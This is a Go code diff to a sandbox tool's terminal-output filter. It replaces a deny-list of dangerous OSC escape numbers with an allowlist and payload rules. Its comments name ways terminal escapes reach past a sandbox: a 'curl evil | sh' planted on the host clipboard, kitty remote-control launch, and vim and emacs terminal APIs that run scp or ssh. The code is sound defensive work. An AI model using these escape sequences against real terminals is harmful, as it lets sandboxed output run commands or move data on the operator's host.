@@ -12,7 +12,8 @@ import (
 //     host's clipboard (a "curl evil | sh" the operator pastes later), kitty's OSC 5522
 //     reads and writes it too, iTerm2's OSC 1337 writes files (File=) and sets
 //     variables, OSC 50 changes the font (the old xterm font-name exploits); oscFilter
-//     drops them from the stream;
+//     passes only the OSC numbers it knows to act on the screen (allowedOSC) and drops
+//     every other from the stream;
 //   - the other string sequences, which terminals give powers no list of names keeps up
 //     with: a DCS "@kitty-cmd" is kitty's remote control (with allow_remote_control yes,
 //     "launch" runs a command on the host and "get-text" reads your other windows), a
@@ -27,12 +28,74 @@ import (
 //     mouse reporting) that hides or garbles what box prints after the run, its audit
 //     report first; terminalReset puts those back before box says anything.
 //
-// Other sequences (colours, cursor motion, titles, hyperlinks, queries whose answers come
-// back to the sandbox's own terminal) pass unchanged.
+// Other sequences (CSI and ESC: colours, cursor motion; the allowed OSCs: titles,
+// hyperlinks, queries whose answers come back to the sandbox's own terminal) pass unchanged.
 
-// droppedOSC are the OSC numbers oscFilter removes (kitty's 5113 is its file transfer,
-// both ways).
+// droppedOSC are the OSC numbers known to act outside the screen (kitty's 5113 is its
+// file transfer, both ways): dropped whatever follows the number (kitty skips it).
 var droppedOSC = []int{52, 5522, 1337, 50, 5113}
+
+// allowedOSC are the OSC numbers oscFilter passes: what acts on the screen, answers a query
+// on the sandbox's own terminal, or tells the terminal where the prompt and the directory
+// are. Every other number followed by ';' is dropped: terminals and the programs they run
+// in give OSC numbers powers no list of names keeps up with (a hostile review, session 12:
+// OSC 51 is vim's terminal API, whose ["drop","scp://HOST/x"] has netrw run scp or curl,
+// and emacs vterm's, whose E;find-file "/ssh:HOST:" has TRAMP run ssh as you, reaching a
+// host from a sandbox without network; OSC 3 sets an X property of your terminal's window;
+// OSC 46 names xterm's log file). A rule checks the text after the ';' (oscMaxPayload
+// bytes at most) where the number alone does not decide; nil passes it at once.
+var allowedOSC = map[int]func(text []byte, end bool) (pass, decided bool){
+	0: nil, 1: nil, 2: nil, // the title and icon name
+	4: nil, 5: nil, 6: nil, // the palette and the special colours, set or queried
+	7: nil, // the working directory (a new tab opens there)
+	8: nil, // hyperlinks
+	// 10-19: the dynamic colours (foreground, background, cursor, ...), set or queried;
+	// 104-119 reset them.
+	10: nil, 11: nil, 12: nil, 13: nil, 14: nil, 15: nil, 16: nil, 17: nil, 18: nil, 19: nil,
+	104: nil, 105: nil, 106: nil, 110: nil, 111: nil, 112: nil, 113: nil, 114: nil, 115: nil, 116: nil, 117: nil, 118: nil, 119: nil,
+	9:   osc9Rule, // iTerm2's and Ghostty's notification; ConEmu's commands are dropped
+	21:  nil,      // kitty's colour control
+	22:  nil,      // the pointer's shape
+	66:  nil,      // kitty's text sizing
+	99:  nil,      // kitty's notification
+	133: nil,      // the prompt's marks (FinalTerm, kitty, WezTerm, VS Code)
+	633: nil,      // VS Code's shell integration marks
+	777: osc777Rule,
+	// kitty's colour stack (push, pop).
+	30001: nil, 30101: nil,
+}
+
+// oscMaxPayload bounds the text a rule of allowedOSC reads before it must decide.
+const oscMaxPayload = 16
+
+// osc9Rule passes OSC 9 as iTerm2's and Ghostty's notification (text) and Windows
+// Terminal's progress bar (9;4;...), and drops ConEmu's other numbered commands: 9;6 runs
+// a GuiMacro, 9;7 starts a process.
+func osc9Rule(text []byte, end bool) (pass, decided bool) {
+	i := 0
+	for i < len(text) && text[i] >= '0' && text[i] <= '9' {
+		i++
+	}
+	switch {
+	case len(text) == 0 && !end:
+		return false, false
+	case i == 0:
+		return true, true // a notification's text
+	case i == len(text) && !end:
+		return false, false // the number may go on
+	}
+	return string(text[:i]) == "4", true
+}
+
+// osc777Rule passes rxvt's OSC 777 only as the notification foot and Ghostty take it
+// ("notify;"): the rest goes to urxvt's perl extensions, which do what each was written to.
+func osc777Rule(text []byte, end bool) (pass, decided bool) {
+	const want = "notify;"
+	if len(text) < len(want) && !end && strings.HasPrefix(want, string(text)) {
+		return false, false
+	}
+	return strings.HasPrefix(string(text), want), true
+}
 
 // oscMaxDrop bounds what one dropped sequence swallows: past it the filter lets bytes
 // through again (as text: the terminal never saw the sequence's start), so a sequence
@@ -51,6 +114,7 @@ const (
 	oscNumber           // after ESC ] or the 8-bit OSC (0x9d), reading the number
 	oscDrop             // inside a dropped sequence
 	oscDropEsc          // inside a dropped sequence, after ESC
+	oscText             // after an allowed number with a rule and ';', reading the text it decides on
 	strHeader           // after a DCS or APC introducer, reading what decides it
 )
 
@@ -98,7 +162,11 @@ type oscFilter struct {
 	state   oscState
 	c1      bool   // the sequence began with c1OSC, not ESC ]
 	num     []byte // the OSC number read so far (at most oscMaxDigits)
+	text    []byte // the text after the number an allowedOSC rule decides on
 	dropped int
+	// denyOnly: only droppedOSC is dropped (a test build with ProtOSCAllow off: the
+	// filter as it was before the allowlist).
+	denyOnly bool
 	// A DCS or APC being decided: its kind, its introducer as written (ESC P, or the
 	// 8-bit byte) and the header read so far.
 	kind  strKind
@@ -166,22 +234,39 @@ func (f *oscFilter) filter(dst, src []byte) []byte {
 				src = src[1:]
 			case b >= '0' && b <= '9':
 				f.state, f.dropped = oscDrop, 0 // no terminal's command: dropped whole
-			case b == ';' && oscSuspect(f.num):
+			case b == ';' && (oscSuspect(f.num) || !f.denyOnly && !oscAllowed(f.num)):
 				f.state, f.dropped = oscDrop, 0
 				src = src[1:]
-			case oscDroppedNumber(f.num):
+			case b == ';' && !f.denyOnly && allowedOSC[oscValue(f.num)] != nil:
+				f.state, f.text = oscText, f.text[:0]
+				src = src[1:]
+			case oscDroppedNumber(f.num), !f.c1 && !f.denyOnly && len(f.num) > 0 && !oscAllowed(f.num):
 				// Some terminals skip whatever follows the number (kitty): dropped
-				// whatever it is, b included (a terminator ends the drop at once).
+				// whatever it is, b included (a terminator ends the drop at once). A
+				// number off the list after 0x9d, which may be a quote's last byte in
+				// text ("”3 apples"), is dropped only before ';'.
 				f.state, f.dropped = oscDrop, 0
 			default:
 				// Not one to drop: what was held goes out, and b is read as usual.
-				if f.c1 {
-					dst = append(dst, c1OSC)
-				} else {
-					dst = append(dst, 0x1b, ']')
-				}
-				dst = append(dst, f.num...)
+				dst = f.held(dst)
 				f.state = oscGround
+			}
+		case oscText:
+			b := src[0]
+			end := b == 0x07 || b == 0x1b || b == 0x18 || b == 0x1a || len(f.text) == oscMaxPayload
+			if !end {
+				f.text = append(f.text, b)
+				src = src[1:]
+			}
+			pass, decided := allowedOSC[oscValue(f.num)](f.text, end)
+			switch {
+			case decided && pass:
+				dst = append(f.held(dst), ';')
+				dst = append(dst, f.text...)
+				f.state = oscGround
+			case decided || end:
+				// The terminator, if that is what b is, ends the drop at once.
+				f.state, f.dropped = oscDrop, len(f.text)
 			}
 		case oscDrop:
 			room := oscMaxDrop - f.dropped
@@ -404,22 +489,44 @@ func (f *oscFilter) remember(src []byte) {
 	}
 }
 
-// oscDroppedNumber: the number, read as terminals read it (leading zeros ignored: xterm,
-// kitty and VTE take "052" for 52), is one of droppedOSC.
-func oscDroppedNumber(num []byte) bool {
-	if len(num) > 5 {
-		return false
+// held appends the OSC's introducer and number, held until decided, to dst.
+func (f *oscFilter) held(dst []byte) []byte {
+	if f.c1 {
+		dst = append(dst, c1OSC)
+	} else {
+		dst = append(dst, 0x1b, ']')
+	}
+	return append(dst, f.num...)
+}
+
+// oscValue is the number as terminals read it (leading zeros ignored: xterm, kitty and
+// VTE take "052" for 52); -1 for none or more than five digits.
+func oscValue(num []byte) int {
+	if len(num) == 0 || len(num) > 5 {
+		return -1
 	}
 	n := 0
 	for _, c := range num {
 		n = n*10 + int(c-'0')
 	}
+	return n
+}
+
+// oscDroppedNumber: the number is one of droppedOSC.
+func oscDroppedNumber(num []byte) bool {
+	n := oscValue(num)
 	for _, d := range droppedOSC {
-		if n == d && len(num) > 0 {
+		if n == d {
 			return true
 		}
 	}
 	return false
+}
+
+// oscAllowed: the number is one of allowedOSC.
+func oscAllowed(num []byte) bool {
+	_, ok := allowedOSC[oscValue(num)]
+	return ok
 }
 
 // oscSuspect: a number box drops before ';': a dropped one, or one written in a form no
